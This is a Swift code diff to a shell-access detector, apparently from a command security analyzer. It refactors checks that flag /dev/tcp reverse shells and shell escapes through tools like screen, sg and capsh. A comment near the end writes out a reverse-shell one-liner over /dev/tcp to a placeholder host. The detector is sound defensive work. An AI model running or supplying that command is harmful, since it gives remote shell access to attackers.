@@ -11,23 +11,28 @@ enum ShellAccess {
     "sudo", "doas", "env", "nice", "nohup", "time", "timeout", "stdbuf", "setsid", "exec",
     "command", "builtin",
   ]
+  /// Families whose shell-path arguments are data or code, not a spawn. A constant: the
+  /// OptionSet array literal was a heap-allocated array built for every program.
+  static let notSpawners: ProgramKind = [.informational, .interpreter, .editor]
+
   static func check(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
     let p = inv.program
-    let cmd = a.command(k)
+    // Only the redirections are needed; binding the whole command copied it.
+    let redirects = a[commandOf: k].redirects
 
     // /dev/tcp and /dev/udp: bash opens a socket on redirection.
-    let sockets = cmd.redirects.filter {
+    let sockets = redirects.filter {
       $0.target.value.isDevSocketPath
     }
     if !sockets.isEmpty
       || inv.args.contains(where: \.isDevSocketPath)
     {
       let wiresStdio =
-        cmd.redirects.contains { ($0.op == ">&" || $0.op == "<&" || $0.op == "&>") }
+        redirects.contains { ($0.op == ">&" || $0.op == "<&" || $0.op == "&>") }
         || sockets.contains { $0.op == "<>" || $0.op == "&>" || $0.op == ">&" }
-      let stdio = cmd.redirects.contains { $0.fd == nil || $0.fd == 0 || $0.fd == 1 || $0.fd == 2 }
-      if inv.kind.contains(.shell) || p.eq("exec") && wiresStdio && stdio && cmd.redirects.count >= 2
-        || (wiresStdio && cmd.redirects.count >= 2 && stdio && !p.eq("exec"))
+      let stdio = redirects.contains { $0.fd == nil || $0.fd == 0 || $0.fd == 1 || $0.fd == 2 }
+      if inv.kind.contains(.shell) || p.eq("exec") && wiresStdio && stdio && redirects.count >= 2
+        || (wiresStdio && redirects.count >= 2 && stdio && !p.eq("exec"))
       {
         a.hit(
           .devTcpShell, k,
@@ -91,8 +96,8 @@ enum ShellAccess {
       // Fed a script: from a pipe, a file, a here-document. Not fed: a terminal (`<$(tty)`,
       // `</dev/tty`) or a descriptor dup (`0<&1`), which is how escapes wire a shell up.
       let fed =
-        cmd.position > 0
-        || cmd.redirects.contains { r in
+        a[commandOf: k].position > 0
+        || redirects.contains { r in
           (r.op == "<" || r.op.hasPrefix("<<")) && !r.target.value.has("tty")
             && !r.target.value.hasPrefix("/dev/pts")
             && !r.target.value.hasPrefix("@")  // Tcl's `<@stdin` channel syntax, typed into tclsh
@@ -115,7 +120,7 @@ enum ShellAccess {
       }
       return
     }
-    if inv.kind.isDisjoint(with: [.informational, .interpreter, .editor]) {
+    if inv.kind.isDisjoint(with: notSpawners) {
       // `useradd -s /bin/zsh`, `su --shell /bin/zsh`: a login shell setting, not a spawn;
       // `X -- /bin/sh -c '...'` is a wrapped script, parsed as one.
       let setsShell = shellSetters.contains(p)
@@ -133,10 +138,11 @@ enum ShellAccess {
       }
     }
     // Programs that open a shell when given nothing to run.
-    var bare: [String] { inv.args.filter { !$0.hasPrefix("-") } }
+    // (Computed in the two cases that ask: a local computed property capturing `inv` cost a
+    // heap-allocated closure context for every program.)
     switch Name(p) {
     case "screen", "byobu", "zellij":
-      if bare.isEmpty || inv.args == ["-S"] {
+      if !inv.args.contains(where: { !$0.hasPrefix("-") }) || inv.args == ["-S"] {
         a.hit(.interactiveShell, k, reason: "\(p) starts an interactive shell")
       }
     case "tmux":
@@ -154,7 +160,7 @@ enum ShellAccess {
         a.hit(.shellEscape, k, reason: "capsh starts a shell")
       }
     case "sg", "newgrp":
-      if bare.count <= 1 {
+      if inv.args.filter({ !$0.hasPrefix("-") }).count <= 1 {
         a.hit(.shellEscape, k, reason: "\(p) starts a shell with another group")
       }
     case "sed", "gsed":
@@ -241,7 +247,10 @@ enum ShellAccess {
       }
     }
     // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l 2>&5 >&5; done`.
-    if a.hits.contains(where: { $0.signal == .rawSocketTransfer && $0.evidence.has("/dev/tcp") }),
+    let hits = a.hits
+    if hits.indices.contains(where: {
+      hits[$0].signal == .rawSocketTransfer && hits[$0].evidence.has("/dev/tcp")
+    }),
       a.invocations.contains(where: { $0.pathClass == .dynamic })
     {
       a.hit(
